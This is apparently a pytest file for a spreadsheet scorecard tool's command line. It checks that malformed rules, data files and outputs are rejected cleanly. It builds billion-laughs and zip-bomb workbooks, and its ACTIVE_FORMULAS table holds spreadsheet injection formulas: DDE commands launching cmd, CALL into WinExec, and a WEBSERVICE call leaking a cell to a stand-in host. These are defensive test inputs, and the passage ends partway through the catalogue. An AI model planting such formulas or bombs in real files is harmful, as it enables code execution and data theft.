"""The catalogue of bad inputs: each case, its expected message, exit 2, nothing written.

Every case is a row of a table: an id, a builder that makes the bad input on
disk (rules.json, a CSV or XLSX data table, or a hostile workbook used as the
--data input, the --template, the existing --out being regenerated, or the
workbook to print) and returns the command line, and the message expected.
Each case runs through ``cli.run`` and asserts:

- exit code 2 and nothing on stdout;
- every stderr line is one ``error: ``/``warning: `` line, and an error line
  names the place (file, row/column, JSON path, indicator, month) and carries
  the expected message, which says what to do;
- no traceback;
- no file created, changed or removed anywhere in the test's folder (every
  file is hashed before and after: the existing --out workbook and results,
  and no temporary file is left).

Cases already covered one by one in test_rules_validation.py and
test_data_validation.py (they check the messages in detail) appear here once
each, run through ``build`` with an existing workbook at stake. The worksheet
functions' argument cases are at the end: they must return a short message,
never raise. A few cases run as a real process at the end, to show that no
traceback reaches a user.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import openpyxl
import pytest

from xl_scorecard import cli
from xl_scorecard.inputs import data as data_module
from xl_scorecard.excel import functions as sf

import hostile_files as hostile

REPO_ROOT = Path(__file__).resolve().parent.parent
HEADER = "indicator,period,numerator,denominator,value\n"
GOOD_ROWS = "K1,2012-04,80,100,\nK1,2012-05,170,200,\nC1,2012-05,,,12\nT1,2012-05,20,10000,\n"

RULES = {
    "scorecard": {"title": "Robustness scorecard", "organisation": "Test council"},
    "indicators": [
        {"id": "K1", "name": "Children seen at Section 47 enquiry", "section": "CHILD PROTECTION",
         "polarity": "H", "period": "SS", "measure": "percent", "decimals": 1,
         "thresholds": [{"from": "2012-04", "target": 85, "floor": 76.5}]},
        {"id": "C1", "name": "Referrals", "section": "ACTIVITY", "polarity": None, "period": "SS",
         "measure": "count", "decimals": 0},
        {"id": "T1", "name": "Rate of children in need", "section": "ACTIVITY", "polarity": "T",
         "period": "SS", "measure": "rate", "per": 10000, "decimals": 1,
         "thresholds": [{"from": "2012-04", "target": 20, "green": [18, 23], "amber": [15, 27]}]},
    ],
}


# --------------------------------------------------------------------------- the world a case runs in


@pytest.fixture(scope="module")
def built_workbook(tmp_path_factory) -> bytes:
    """Last month's workbook for RULES and GOOD_ROWS, built once: the --out at stake."""
    folder = tmp_path_factory.mktemp("built")
    rules, data, out = folder / "rules.json", folder / "data.csv", folder / "scorecard.xlsx"
    rules.write_text(json.dumps(RULES), encoding="utf-8")
    data.write_text(HEADER + GOOD_ROWS, encoding="utf-8")
    code = cli.run(["build", "--rules", str(rules), "--data", str(data), "--month", "2012-05",
                    "--out", str(out)], io.StringIO(), io.StringIO())
    assert code == 0
    return out.read_bytes()


@dataclass
class World:
    """A folder with good rules, good data, last month's workbook and results: what is at stake."""

    dir: Path
    rules: Path
    data: Path
    out: Path
    results: Path
    patches: dict = field(default_factory=dict)

    def file(self, name: str, text: "str | bytes") -> Path:
        path = self.dir / "inputs" / name
        path.parent.mkdir(exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8")
        return path

    def rules_with(self, mutate) -> Path:
        document = json.loads(json.dumps(RULES))
        mutate(document)
        return self.file("rules.json", json.dumps(document, indent=2))

    def xlsx(self, rows, header=hostile.DATA_HEADER, name="data.xlsx") -> Path:
        (self.dir / "inputs").mkdir(exist_ok=True)
        return hostile.data_workbook(self.dir / "inputs" / name, rows, header)

    def good_xlsx(self, name="good.xlsx") -> Path:
        return self.xlsx([r.split(",") for r in GOOD_ROWS.splitlines()], name=name)

    def build(self, *extra, rules=None, data=None, out=None) -> list:
        return ["build", "--rules", rules or self.rules, "--data", data or self.data,
                "--month", "2012-05", "--out", out or self.out, *extra]

    def report(self, *extra, rules=None, data=None, out=None) -> list:
        return ["report", "--rules", rules or self.rules, "--data", data or self.data,
                "--month", "2012-05", "--out", out or self.dir / "out" / "paper.docx", *extra]

    def results_cmd(self, *extra, rules=None, data=None) -> list:
        return ["results", "--rules", rules or self.rules, "--data", data or self.data,
                "--out", self.results, *extra]


@pytest.fixture
def world(tmp_path, built_workbook) -> World:
    rules, data = tmp_path / "rules.json", tmp_path / "data.csv"
    rules.write_text(json.dumps(RULES, indent=2), encoding="utf-8")
    data.write_text(HEADER + GOOD_ROWS, encoding="utf-8")
    out = tmp_path / "out" / "scorecard-2012-05.xlsx"
    out.parent.mkdir()
    out.write_bytes(built_workbook)
    results = tmp_path / "out" / "results.csv"
    results.write_text("last month's results\n", encoding="utf-8")
    return World(tmp_path, rules, data, out, results)


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (hidden ones too) and its hash."""
    return {str(p.relative_to(folder)): hostile.sha256(p) for p in sorted(folder.rglob("*"))
            if p.is_file()}


@dataclass(frozen=True)
class Case:
    """One bad input: ``make(world) -> (argv, where)``; ``where`` names the place, ``expect`` the message."""

    id: str
    make: object
    expect: tuple[str, ...]


def case(id_, make, *expect):
    return pytest.param(Case(id_, make, expect), id=id_)


def _set(path, value):
    def mutate(doc):
        node = doc
        for part in path[:-1]:
            node = node[part]
        node[path[-1]] = value
    return mutate


def _drop(path):
    def mutate(doc):
        node = doc
        for part in path[:-1]:
            node = node[part]
        del node[path[-1]]
    return mutate


K1, C1, T1 = ("indicators", 0), ("indicators", 1), ("indicators", 2)
K1_TH, T1_TH = K1 + ("thresholds", 0), T1 + ("thresholds", 0)


def bad_rules(mutate, path: str):
    """A case builder: RULES with one mistake, through build with the existing --out at stake."""
    def make(w: World):
        rules = w.rules_with(mutate)
        return w.build(rules=rules), f"{rules}: {path}"
    return make


def rules_text(text: "str | bytes", where: str = ""):
    def make(w: World):
        rules = w.file("rules.json", text)
        return w.build(rules=rules), f"{rules}{where}"
    return make


def csv_data(text: str, where: str = "", command: str = "build", **patches):
    def make(w: World):
        data = w.file("data.csv", text)
        w.patches.update(patches)
        argv = w.build(data=data) if command == "build" else w.results_cmd(data=data)
        return argv, f"{data}{where}"
    return make


def xlsx_data(rows, where: str = "", header=hostile.DATA_HEADER, **patches):
    def make(w: World):
        data = w.xlsx(rows, header=header)
        w.patches.update(patches)
        return w.build(data=data), f"{data}{where}"
    return make


# ----- hostile workbooks, each usable in four roles


def _not_a_zip(w, path):
    path.write_text(HEADER + GOOD_ROWS, encoding="utf-8")  # a CSV renamed .xlsx


def _truncated(w, path):
    hostile.truncated(w.good_xlsx("source.xlsx"), path)


def _laughs_workbook(w, path):
    hostile.billion_laughs(w.good_xlsx("source.xlsx"), path, "xl/workbook.xml")


def _laughs_sheet(w, path):
    hostile.billion_laughs(w.good_xlsx("source.xlsx"), path, "xl/worksheets/sheet1.xml")


def _zip_bomb(w, path):
    hostile.zip_bomb(w.good_xlsx("source.xlsx"), path, megabytes=64)


def _encrypted(w, path):
    msoffcrypto = pytest.importorskip("msoffcrypto", reason="msoffcrypto-tool (the 'test' extra) "
                                      "makes a genuinely password-protected workbook")
    from msoffcrypto.format.ooxml import OOXMLFile

    source = w.good_xlsx("source.xlsx")
    with open(source, "rb") as plain, open(path, "wb") as locked:
        OOXMLFile(plain).encrypt("secret", locked)
    assert msoffcrypto.olefile.isOleFile(str(path))


def _old_ole(w, path):
    hostile.ole_compound_file(path)


def _corrupt_part(w, path):
    """A real workbook with one byte of a compressed part flipped: its CRC check fails."""
    source = w.good_xlsx("source.xlsx")
    blob = bytearray(source.read_bytes())
    import zipfile

    with zipfile.ZipFile(source) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    blob[start + info.compress_size // 2] ^= 0xFF
    path.write_bytes(bytes(blob))


def _zip_not_office(w, path):
    import zipfile

    with zipfile.ZipFile(path, "w") as z:
        z.writestr("readme.txt", "a zip file, not a workbook")


HOSTILE = {
    "not-a-zip": (_not_a_zip, ("is not an .xlsx workbook", "save it from Excel as .xlsx")),
    "truncated-zip": (_truncated, ("is not an .xlsx workbook", "truncated")),
    "billion-laughs": (_laughs_workbook, ("declares an XML DOCTYPE or entity",
                                          "refused as a possible XML attack")),
    "billion-laughs-in-sheet": (_laughs_sheet, ("'xl/worksheets/sheet1.xml' declares an XML DOCTYPE",
                                                "re-save the workbook from Excel")),
    "zip-bomb": (_zip_bomb, ("refused as a possible zip bomb",)),
    "password-protected": (_encrypted, ("is password-protected", "remove the password")),
    "old-xls-ole-file": (_old_ole, ("is password-protected or an old .xls file", "save it as .xlsx")),
    "corrupt-part": (_corrupt_part, ("is a damaged workbook", "repair it")),
    "zip-but-not-office": (_zip_not_office, ("is a zip file but not an Office workbook",)),
}


def hostile_as(role: str, kind: str):
    """A hostile workbook used as --data, --template, the existing --out, or the pdf input."""
    maker, _ = HOSTILE[kind]

    def make(w: World):
        if role == "data":
            path = w.dir / "inputs" / "data.xlsx"
            path.parent.mkdir(exist_ok=True)
            maker(w, path)
            return w.build(data=path), str(path)
        if role == "template":
            path = w.dir / "inputs" / "template.xlsx"
            path.parent.mkdir(exist_ok=True)
            maker(w, path)
            fresh = w.dir / "out" / "new-scorecard.xlsx"
            return w.build("--template", path, out=fresh), str(path)
        if role == "out":
            maker(w, w.out)  # last month's workbook, replaced by the hostile file
            return w.build(), str(w.out)
        if role == "pdf":
            maker(w, w.out)
            return ["pdf", w.out, "--out", w.dir / "out" / "committee.pdf"], str(w.out)
        if role == "paper":  # the month's workbook whose commentary goes into the paper
            maker(w, w.out)
            return w.report("--workbook", w.out), str(w.out)
        raise AssertionError(role)

    return make


def hostile_cases():
    roles = {
        "data": ["not-a-zip", "truncated-zip", "billion-laughs-in-sheet", "zip-bomb",
                 "password-protected", "old-xls-ole-file", "corrupt-part", "zip-but-not-office"],
        "template": ["not-a-zip", "truncated-zip", "billion-laughs", "zip-bomb",
                     "password-protected", "corrupt-part"],
        "out": ["not-a-zip", "truncated-zip", "billion-laughs", "zip-bomb", "password-protected",
                "corrupt-part"],
        "pdf": ["not-a-zip", "truncated-zip", "billion-laughs", "zip-bomb", "password-protected"],
        "paper": ["not-a-zip", "truncated-zip", "billion-laughs", "zip-bomb", "password-protected",
                  "corrupt-part"],
    }
    for role, kinds in roles.items():
        for kind in kinds:
            expect = HOSTILE[kind][1]
            if role == "out":
                expect = expect + ("existing output workbook: it was left unchanged",)
            yield case(f"{role}-{kind}", hostile_as(role, kind), *expect)


# ----- outputs that cannot be written


def _excel_has_it_open(w: World):
    w.out.with_name("~$" + w.out.name).write_bytes(b"\x0fExcel owner file")
    return w.build(), str(w.out)


def _libreoffice_has_it_open(w: World):
    w.out.with_name(f".~lock.{w.out.name}#").write_text("analyst,host,2012-06-01T09:00;")
    return w.build(), str(w.out)


def _locked_by_another_program(w: World):
    """Windows refuses to replace a file another program holds open: a sharing violation."""
    def sharing_violation(src, dst):
        raise PermissionError(13, "The process cannot access the file because it is being used "
                              "by another process")
    w.patches[(os, "replace")] = sharing_violation
    return w.build(), str(w.out)


def _out_is_a_folder(w: World):
    folder = w.dir / "out" / "scorecard.xlsx"
    folder.mkdir()
    return w.build(out=folder), str(folder)


def _out_not_a_workbook_name(w: World):
    return w.build(out=w.results), str(w.results)


def _paper_open_in_word(w: World):
    paper = w.dir / "out" / "paper.docx"
    import docx  # the officer's edited draft: a real Word document

    draft = docx.Document()
    draft.add_paragraph("the officer's edited draft")
    draft.save(paper)
    paper.with_name("~$" + paper.name).write_bytes(b"\x0fWord owner file")
    return w.report(), str(paper)


def _paper_not_a_docx_name(w: World):
    return w.report(out=w.results), str(w.results)


def _paper_workbook_without_our_sheets(w: World):
    other = w.dir / "inputs" / "other.xlsx"
    other.parent.mkdir(exist_ok=True)
    openpyxl.Workbook().save(other)
    return w.report("--workbook", other), str(other)


def _paper_report_section_typo(w: World):
    rules = w.rules_with(_set(("report",), {"form": "Cabinet Member"}))
    return w.report(rules=rules), f"{rules}: $.report"


def _template_missing(w: World):
    missing = w.dir / "inputs" / "no-such-template.xlsx"
    return w.build("--template", missing, out=w.dir / "out" / "new.xlsx"), str(missing)


def _pdf_of_a_data_workbook(w: World):
    data = w.good_xlsx()
    return ["pdf", data, "--out", w.dir / "out" / "committee.pdf"], str(data)


def _pdf_of_a_live_workbook_never_calculated(w: World):
    live = w.dir / "out" / "live.xlsx"
    assert cli.run([str(a) for a in w.build("--live", out=live)], io.StringIO(), io.StringIO()) == 0
    import openpyxl  # build writes the engine's values as cached results; a re-save drops them

    book = openpyxl.load_workbook(live)
    book.save(live)
    return ["pdf", live, "--out", w.dir / "out" / "committee.pdf"], str(live)


def _month_without_data(w: World):
    argv = w.build()
    argv[argv.index("2012-05")] = "2013-01"
    return argv, "month 2013-01"


def _results_month_without_data(w: World):
    return w.results_cmd("--month", "2013-01"), "month 2013-01"


# ----- outputs that are inputs, or files of another kind (round two)


def _results_over(target: str, *extra, command="results", link=None):
    """results/summary --out onto one of its own inputs (or a link to one)."""
    def make(w: World):
        paths = {"data": w.data, "rules": w.rules, "workbook": w.out}
        out = paths[target]
        if link == "symlink":
            out = w.dir / "out" / "link.csv"
            out.symlink_to(paths[target])
        elif link == "hardlink":
            out = w.dir / "out" / "hard.csv"
            os.link(paths[target], out)
        elif link == "relative":
            out = Path(os.path.relpath(paths[target]))
        argv = [command, "--rules", w.rules, "--data", w.data, "--out", out, *extra]
        return argv, str(out)
    return make


def _build_over_its_data(w: World):
    data = w.good_xlsx("monthly.xlsx")
    return w.build(data=data, out=data), str(data)


def _build_over_its_template(w: World):
    return w.build("--template", w.out), str(w.out)


def _batch_over_its_data(w: World):
    data = w.dir / "out" / "scorecard-2012-04.xlsx"
    w.good_xlsx("good.xlsx").replace(data)
    return ["batch", "--rules", w.rules, "--data", data, "--from", "2012-04", "--to", "2012-05",
            "--out-dir", w.out.parent], str(data)


def _pdf_over_its_workbook(w: World):
    return ["pdf", w.out, "--out", w.out], str(w.out)


def _pdf_named_as_a_workbook(w: World):
    other = w.dir / "out" / "committee.xlsx"
    return ["pdf", w.out, "--out", other], str(other)


def _summary_over_a_pdf(w: World):
    pdf = w.dir / "out" / "committee.txt"
    pdf.write_bytes(b"%PDF-1.7\n% last month's committee paper\n")
    return ["summary", "--rules", w.rules, "--data", w.data, "--out", pdf], str(pdf)


# ----- workbooks that used to mislead the data reader (round two)


def _chart_sheet_named_data(w: World):
    from openpyxl.chart import BarChart, Reference

    path = w.dir / "inputs" / "charted.xlsx"
    path.parent.mkdir(exist_ok=True)
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Figures"
    for row in [hostile.DATA_HEADER] + [r.split(",") for r in GOOD_ROWS.splitlines()]:
        ws.append(row)
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=3, min_row=1, max_row=3))
    book.create_chartsheet("Data").add_chart(chart)
    book.save(path)
    return w.build(data=path), f"{path} [Data]"


def _formula_without_a_saved_result(w: World):
    """openpyxl writes formulas without results, as any program that does not calculate does."""
    rows = [("K1", "2012-04", 80, 100, None), ("K1", "2012-05", "=100+70", 200, None)]
    path = w.xlsx(rows)
    return w.build(data=path), f"{path} [Sheet] cell C3: column 'numerator'"


# ----- templates carrying formulas that reach outside the workbook (round two)

ACTIVE_FORMULAS = {
    "dde-cmd": ("=cmd|' /C calc'!A0", "is a DDE link"),
    "dde-msexcel": ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "is a DDE link"),
    "webservice": ('=WEBSERVICE("https://example.invalid/?"&A1)', "calls WEBSERVICE"),
    "filterxml": ('=FILTERXML(WEBSERVICE("https://example.invalid"),"//a")', "calls"),
    "rtd": ('=RTD("progid",,"topic")', "calls RTD"),
    "call": ('=CALL("Kernel32","WinExec","JCJ","calc",0)', "calls CALL"),
    "register-id": ('=_xlfn.REGISTER.ID("Kernel32","WinExec")', "calls REGISTER.ID"),
    "hyperlink-file": ('=HYPERLINK("file:///C:/Users/analyst/secret.xlsx","notes")',
                       "links to a local or network file"),
}


def _active_template(kind: str, role: str = "template"):
    def make(w: World):
        formula, _ = ACTIVE_FORMULAS[kind]
        if role == "template":
            path = w.dir / "inputs" / "template.xlsx"
            path.parent.mkdir(exist_ok=True)
            book = openpyxl.Workbook()
            book.active.title = "Notes"
            book.active["B4"] = formula
            book.save(path)
            return w.build("--template", path, out=w.dir / "out" / "new.xlsx"), str(path)
        book = openpyxl.load_workbook(w.out)  # the analyst's own sheet in last month's workbook
        book.create_sheet("Notes")["C2"] = formula
        book.save(w.out)
        return w.build(), str(w.out)
    return make


def _xlsm_without_macros(w: World):
    out = w.dir / "out" / "scorecard.xlsm"
    return w.build(out=out), str(out)


# ----- inputs that are not regular files, and names the system refuses (round two)


def _special(role: str, special: str):
    """/dev/zero or a FIFO as rules, data, template or the workbook to print: refused at once."""
    def make(w: World):
        if special == "fifo":
            path = w.dir / "inputs" / f"{role}.fifo"
            path.parent.mkdir(exist_ok=True)
            os.mkfifo(path)
        else:
            path = Path(special)
        if role == "rules":
            return w.build(rules=path), str(path)
        if role == "data":
            return w.build(data=path), str(path)
        if role == "template":
            return w.build("--template", path, out=w.dir / "out" / "new.xlsx"), str(path)
        return ["pdf", path, "--out", w.dir / "out" / "committee.pdf"], str(path)
    return make


LONG = "n" * 300


def _too_long(role: str):
    def make(w: World):
        path = w.dir / f"{LONG}.{'xlsx' if role in ('out', 'template', 'pdf') else 'csv'}"
        if role == "rules":
            return w.build(rules=w.dir / f"{LONG}.json"), str(w.dir / f"{LONG}.json")
        if role == "data":
            return w.build(data=path), str(path)
        if role == "out":
            return w.build(out=path), str(path)
        if role == "template":
            return w.build("--template", path, out=w.dir / "out" / "new.xlsx"), str(path)
        if role == "results-out":
            out = w.dir / "out" / f"{LONG}.csv"
            return ["results", "--rules", w.rules, "--data", w.data, "--out", out], str(out)
        if role == "batch-out-dir":
            folder = w.dir / LONG
            return (["batch", "--rules", w.rules, "--data", w.data, "--out-dir", folder],
                    str(folder))  # the folder itself, or a workbook in it: both name the long part
        return ["pdf", w.out, "--out", w.dir / "out" / f"{LONG}.pdf"], str(w.dir / "out" / f"{LONG}.pdf")
    return make


# --------------------------------------------------------------------------- the catalogue


CATALOGUE = [
    # ----- rules.json
    case("rules-not-json", rules_text('{"scorecard": {"title": "x"},\n  "indicators": [,]}\n',
                                      ": line 2 column 18"), "not valid JSON"),
    case("rules-empty-file", rules_text("", ": line 1 column 1"), "not valid JSON"),
    case("rules-integer-of-5000-digits", rules_text('{"scorecard": {"title": "x"},\n  "indicators": [' + "7" * 5000
                                                    + "]}\n", ": line 2 column 18"),
         "a number with thousands of digits", "correct it"),
    case("rules-not-utf8", rules_text(b'{"scorecard": {"title": "\xff\xfe"}}'),
         "is not UTF-8 text", "save it as UTF-8"),
    case("rules-missing-id", bad_rules(_drop(T1 + ("id",)), "$.indicators[2]"),
         "missing required field 'id'"),
    case("rules-unknown-polarity", bad_rules(_set(K1 + ("polarity",), "X"),
                                             "$.indicators[0].polarity (K1)"),
         "'X' is not allowed; use one of 'H', 'L', 'T', null"),
    case("rules-text-target", bad_rules(_set(K1_TH + ("target",), "85%"),
                                        "$.indicators[0].thresholds[0].target (K1)"),
         "'85%' is not a number"),
    case("rules-band-of-three", bad_rules(_set(T1_TH + ("green",), [18, 20, 23]),
                                          "$.indicators[2].thresholds[0].green (T1)"),
         "a band must be two numbers [low, high]"),
    case("rules-duplicate-id", bad_rules(_set(C1 + ("id",), "K1"), "$.indicators[1].id (K1)"),
         "duplicate id 'K1': already used by $.indicators[0]"),
    case("rules-floor-above-target-for-H", bad_rules(_set(K1_TH + ("floor",), 90),
                                                     "$.indicators[0].thresholds[0].floor (K1)"),
         "floor 90 is above target 85", "must be at or below the target"),
    case("rules-T-target-outside-green-band", bad_rules(_set(T1_TH + ("target",), 30),
                                                        "$.indicators[2].thresholds[0].target (T1)"),
         "target 30 is outside its green band [18, 23]"),
    case("rules-dates-unordered",
         bad_rules(lambda d: d["indicators"][0]["thresholds"].append(
             {"from": "2011-04", "target": 80, "floor": 70}),
             "$.indicators[0].thresholds[1].from (K1)"),
         "thresholds must be in date order: 2011-04 does not come after 2012-04"),
    case("rules-dates-overlapping",
         bad_rules(lambda d: d["indicators"][0]["thresholds"].append(
             {"from": "2012-04", "target": 80, "floor": 70}),
             "$.indicators[0].thresholds[1].from (K1)"),
         "2012-04 does not come after 2012-04"),
    case("rules-rate-without-per", bad_rules(_drop(T1 + ("per",)), "$.indicators[2] (T1)"),
         "measure 'rate' needs 'per', the multiplier"),
    case("rules-NaN-literal", rules_text(json.dumps(RULES).replace('"target": 85', '"target": NaN'),
                                         ": $.indicators[0].thresholds[0].target (K1)"),
         "'NaN' is not a number"),
    case("rules-number-overflows", rules_text(json.dumps(RULES).replace('"target": 85', '"target": 1e400'),
                                              ": $.indicators[0].thresholds[0].target (K1)"),
         "inf is not a finite number"),
    case("rules-nested-too-deeply", rules_text('{"scorecard": ' + "[" * 100_000 + "]" * 100_000 + "}"),
         "nested too deeply"),
    # ----- round two: text a workbook cannot hold, duplicate keys, ids with a trailing newline
    case("rules-control-character-in-a-name", bad_rules(_set(K1 + ("name",), "Child\u0001ren"),
                                                       "$.indicators[0].name (K1)"),
         "holds a control character U+0001 at position 6", "delete it"),
    case("rules-vertical-tab-in-the-title", bad_rules(_set(("scorecard", "title"), "Score\u000bcard"),
                                                      "$.scorecard.title"), "control character U+000B"),
    case("rules-NUL-in-a-section", bad_rules(_set(C1 + ("section",), "ACT\u0000IVITY"),
                                             "$.indicators[1].section (C1)"), "U+0000"),
    case("rules-lone-surrogate-in-a-section", rules_text(json.dumps(RULES).replace(
        '"ACTIVITY"', '"ACT\\ud800IVITY"', 1), ": $.indicators[1].section (C1)"),
        "a broken character (a lone UTF-16 surrogate) U+D800"),
    case("rules-U+FFFF-in-a-source", bad_rules(_set(K1 + ("source",), "Liberi\uffff"),
                                               "$.indicators[0].source (K1)"), "U+FFFF"),
    case("rules-name-longer-than-a-cell-holds", bad_rules(_set(K1 + ("name",), "n" * 40_000),
                                                          "$.indicators[0].name (K1)"),
         "is 40,000 characters long; a workbook cell holds at most 32,767"),
    case("rules-duplicate-key", rules_text(json.dumps(RULES).replace(
        '"polarity": "H"', '"polarity": "L", "polarity": "H"', 1), ": $.indicators[0].polarity (K1)"),
        "the key 'polarity' is written more than once", "keep one"),
    case("rules-duplicate-key-in-a-threshold", rules_text(json.dumps(RULES).replace(
        '"target": 85', '"target": 85, "target": 95', 1),
        ": $.indicators[0].thresholds[0].target (K1)"), "written more than once"),
    case("rules-id-with-a-trailing-newline", bad_rules(_set(K1 + ("id",), "K1\n"),
                                                       "$.indicators[0].id ('K1\\n')"),
         "may only hold letters, digits"),
    case("rules-from-with-a-trailing-newline", bad_rules(_set(K1_TH + ("from",), "2012-04\n"),
                                                         "$.indicators[0].thresholds[0].from (K1)"),
         "is not a month in the form YYYY-MM"),
    case("rules-file-not-found", lambda w: (w.build(rules=w.dir / "nowhere.json"),
                                            str(w.dir / "nowhere.json")), "file not found"),
    # ----- data, CSV
    case("csv-missing-columns", csv_data("indicator,numerator,denominator,value\nK1,1,2,\n"),
         "missing column(s) period", "The header row must name"),
    case("csv-header-named-twice", csv_data("indicator,period,value,Value\nK1,2012-05,1,2\n"),
         "names column(s) 'value' more than once", "keep one column"),
    case("csv-flag-column-named-twice", csv_data("indicator,period,value,flag,Flag\nK1,2012-05,1,,\n"),
         "names column(s) 'flag' more than once", "keep one column"),
    case("csv-semicolon-separated", csv_data("indicator;period;value\nK1;2012-05;1\n"),
         "another separator", "comma-separated"),
    case("csv-unknown-indicator", csv_data(HEADER + GOOD_ROWS + "XX9,2012-05,1,2,\n",
                                           ": row 6, column 'indicator'"),
         "'XX9' is not an indicator in", "correct the id"),
    case("csv-duplicate-indicator-and-month",
         csv_data(HEADER + GOOD_ROWS + "K1,2012-05,171,200,\n", ": row 6, columns 'indicator' and 'period'"),
         "duplicate figures for K1 in 2012-05 (also on row 3)", "keep one row"),
    case("csv-text-numerator", csv_data(HEADER + "K1,2012-05,abc,200,\n", ": row 2, column 'numerator'"),
         "'abc' is not a number", "leave the cell empty"),
    case("csv-N/A-value", csv_data(HEADER + "C1,2012-05,,,N/A\n", ": row 2, column 'value'"),
         "'N/A' is not a number"),
    case("csv-infinite-value", csv_data(HEADER + "C1,2012-05,,,inf\n", ": row 2, column 'value'"),
         "'inf' is not a number"),
    case("csv-negative-denominator", csv_data(HEADER + "K1,2012-05,1,-5,\n",
                                              ": row 2, column 'denominator'"),
         "-5 is negative", "cannot be below zero"),
    case("csv-ambiguous-date", csv_data(HEADER + "K1,02/03/2012,1,2,\n", ": row 2, column 'period'"),
         "'02/03/2012' is ambiguous: it may be 2 March or 3 February", "write the month as YYYY-MM"),
    case("csv-unreadable-month", csv_data(HEADER + "K1,Spring 2012,1,2,\n", ": row 2, column 'period'"),
         "'Spring 2012' is not a month", "YYYY-MM"),
    case("csv-row-with-extra-cells", csv_data(HEADER + "K1,2012-05,1,2,,\n" + "K1,2012-04,1,2,3,4,5\n",
                                              ": row 3"),
         "has 7 cells but the header has 5"),
    case("csv-unclosed-quote", csv_data(HEADER + 'K1,"2012-05,1,2,\n'), "check for an unclosed double quote"),
    case("csv-empty-file", csv_data(""), "the file is empty"),
    case("csv-header-only", csv_data(HEADER), "has a header but no data rows"),
    case("csv-too-many-rows", csv_data(HEADER + GOOD_ROWS, MAX_ROWS=3), "has more than 3 rows",
         "split it by year"),
    # the reader stops after the limit: a blank line among the rows must not hide the rest
    case("csv-too-many-rows-behind-a-blank-line", csv_data(HEADER + "\n" + GOOD_ROWS, MAX_ROWS=3),
         "has more than 3 rows", "split it by year"),
    case("csv-too-many-bytes", csv_data(HEADER + GOOD_ROWS, MAX_BYTES=64), "is larger than the 64 byte limit",
         "split it by year"),
    case("csv-month-in-year-0000", csv_data(HEADER + "K1,0000-05,1,2,\n", ": row 2, column 'period'"),
         "'0000-05' is outside the years 1900 to 9999", "write the year in full"),
    case("csv-month-in-year-1899", csv_data(HEADER + "K1,1899-12,1,2,\n", ": row 2, column 'period'"),
         "is outside the years 1900 to 9999"),
    case("csv-month-as-text-in-year-0000", csv_data(HEADER + "K1,May-0000,1,2,\n",
                                                    ": row 2, column 'period'"), "is outside the years"),
    case("month-option-in-year-0000", lambda w: (["results", "--rules", w.rules, "--data", w.data,
                                                  "--month", "0000-05"], "xl-scorecard results"),
         "'0000-05' is outside the years 1900 to 9999"),
    *[case(f"tolerance-{text}", lambda w, text=text: (w.build(f"--tolerance={text}"), "xl-scorecard build"),
           f"argument --tolerance: '{text}' must be a finite number, zero or more")
      for text in ("nan", "inf", "-inf", "-0.5", "1e999")],
    # a --previous at or after the report month was silently the month before
    *[case(f"previous-{name}", lambda w, prev=prev: (w.build("--month", "2012-05", "--previous", prev),
                                                     "xl-scorecard build"),
           f"--previous {prev} is not before the report month 2012-05", "give the month of the last "
           "report (e.g. 2012-04)") for name, prev in (("same-month", "2012-05"), ("later", "2013-01"))],
    case("previous-after-month-in-report", lambda w: (w.report("--previous", "2012-06"),
                                                      "xl-scorecard report"),
         "--previous 2012-06 is not before the report month 2012-05"),
    case("batch-range-of-a-thousand-years", lambda w: (["batch", "--rules", w.rules, "--data", w.data,
                                                        "--from", "1900-01", "--to", "9999-12",
                                                        "--out-dir", w.out.parent], "xl-scorecard batch"),
         "spans 97,200 months, more than 1,200 (a century): narrow the range"),
    case("tolerance-nan-in-batch", lambda w: (["batch", "--rules", w.rules, "--data", w.data,
                                               "--out-dir", w.out.parent, "--tolerance", "NaN",
                                               "--live"], "xl-scorecard batch"),
         "must be a finite number"),
    case("csv-blank-lines-keep-the-row-numbers",
         csv_data(HEADER + "K1,2012-05,1,2,\n\n,,,,\nXX9,2012-05,1,2,\n", ": row 5, column 'indicator'"),
         "'XX9' is not an indicator"),
    case("csv-saved-as-utf-16", lambda w: (w.build(data=w.file("data.csv", (HEADER + GOOD_ROWS)
                                                              .encode("utf-16"))),
                                           str(w.dir / "inputs" / "data.csv")),
         "is UTF-16 text (Excel's 'Unicode Text' format)", "CSV UTF-8"),
    case("csv-errors-through-results", csv_data(HEADER + "K1,2012-05,abc,200,\n",
                                                ": row 2, column 'numerator'", command="results"),
         "'abc' is not a number"),
    case("month-requested-without-data", _month_without_data,
         "has no data; months in the data: 2012-04 to 2012-05", "Choose one of those months"),
    case("results-month-requested-without-data", _results_month_without_data,
         "has no data; months in the data: 2012-04 to 2012-05"),
    # ----- data, XLSX
    case("xlsx-missing-columns", xlsx_data([("K1", 1, 2)], header=("indicator", "numerator", "denominator")),
         "missing column(s) period"),
    case("xlsx-unknown-indicator", xlsx_data([("K1", "2012-05", 1, 2, None), ("ZZ", "2012-05", 1, 2, None)],
                                             ": row 3, column 'indicator'"), "'ZZ' is not an indicator"),
    case("xlsx-duplicate-date-cell-and-text",
         xlsx_data([("K1", dt.datetime(2012, 5, 31), 1, 2, None), ("K1", "2012-05", 1, 2, None)],
                   ": row 3, columns 'indicator' and 'period'"), "duplicate figures for K1 in 2012-05"),
    case("xlsx-text-in-number", xlsx_data([("K1", "2012-05", "lots", 200, None)],
                                          ": row 2, column 'numerator'"), "'lots' is not a number"),
    case("xlsx-N/A", xlsx_data([("C1", "2012-05", None, None, "N/A")], ": row 2, column 'value'"),
         "'N/A' is not a number"),
    case("xlsx-negative-denominator", xlsx_data([("K1", "2012-05", 1, -5, None)],
                                                ": row 2, column 'denominator'"), "-5 is negative"),
    case("xlsx-ambiguous-date-text", xlsx_data([("K1", "04/05/2012", 1, 2, None)], ": row 2, column 'period'"),
         "is ambiguous"),
    case("xlsx-number-where-a-month-belongs", xlsx_data([("K1", 41030, 1, 2, None)], ": row 2, column 'period'"),
         "'41030' is not a month"),
    case("xlsx-header-named-twice", xlsx_data([("K1", "2012-05", 1, 2)],
                                              header=("indicator", "period", "value", "VALUE")),
         "more than once"),
